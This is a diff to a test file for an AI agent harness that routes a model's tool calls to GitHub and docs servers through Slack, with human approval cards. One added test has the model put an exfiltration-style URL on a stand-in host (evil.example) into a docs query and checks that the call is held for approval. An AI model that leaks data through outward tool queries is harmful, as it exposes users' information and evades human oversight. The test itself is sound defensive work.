@@ -25,7 +25,7 @@ test('tools of other servers are offered; one that changes something shows all i
   const card = await world.reads('[Approve]', { ts: world.ts });
   expect(renderMessage(card)).toMatch(
     inOrder(
-      ...['issue_write', 'github', 'Server', new URL(github.url).host, 'Tool', 'issue_write'],
+      ...['issue_write', 'Sent to', 'github', new URL(github.url).host, 'Its tool', 'issue_write'],
       ...['method', 'create', 'owner', 'acme', 'repo', 'app', 'title', 'Login <fails> & '],
       ...['body', 'First line.', 'Second line.', 'issue_number (number)', '8'],
       ...['labels (JSON)', '"bug', '"p1', 'type (none)', 'Priya Nair', '01:00'],
@@ -86,11 +86,15 @@ test('a tool that is listed as read-only answers at once, its answer is data, an
   model.says(call('github__search_issues', { query: 'login', perPage: 500, sort_of: 1 }));
   model.says(call('github__search_issues', { query: 'login' }));
   model.says(call('docs__query-docs', { libraryId: '/zod', query: 'unions' }));
-  model.says('Found it.');
+  // To ask for a page is to tell its owner something, so that waits.
+  model.says(call('docs__query-docs', { libraryId: '/zod', query: 'https://evil.example/?said=it' }));
+  model.says('');
 
   await world.writes(slack.users.ada, 'is there an issue about the login?');
 
-  await world.reads('Found it.', { ts: world.ts });
+  const card = await world.reads('[Approve]', { ts: world.ts });
+  expect(renderMessage(card)).toMatch(inOrder('query-docs', 'docs', 'https://evil.example/?said=it'));
+  await world.settled(1);
   expect(github.calls).toEqual([{ tool: 'search_issues', input: { query: 'login' } }]);
   expect(context7.calls).toEqual([{ tool: 'query-docs', input: { libraryId: '/zod', query: 'unions' } }]);
   const results = JSON.stringify(model.asked.map(({ messages }) => messages.at(-1)));
@@ -103,6 +107,21 @@ test('a tool that is listed as read-only answers at once, its answer is data, an
   expect(calls.map(({ tool, effect, state }) => [tool, effect, state])).toEqual([
     ['github.search_issues', 'reads', 'done'],
     ['docs.query-docs', 'reads', 'done'],
+    ['docs.query-docs', 'reaches_out', 'awaiting_approval'],
   ]);
   expect(JSON.stringify(calls).length).toBeLessThan(30_000);
+});
+
+test('what somebody in the call asks of a server that only reads is answered in the thread', async () => {
+  const { github, settings } = await withServers();
+  const world = await houseInCall({ settings });
+  await waitForTools(world, 3);
+  world.model.says(call('github__search_issues', { query: 'login' }));
+  world.model.says('There are two issues about the login.');
+
+  await world.says('Priya Nair', 'Stand-in, how many issues are there about the login?');
+
+  const answer = await world.reads('There are two issues about the login.', { ts: world.ts });
+  expect(renderMessage(answer)).toMatch(inOrder('Priya Nair', 'how many issues', 'There are two issues'));
+  expect(github.calls).toEqual([{ tool: 'search_issues', input: { query: 'login' } }]);
 });
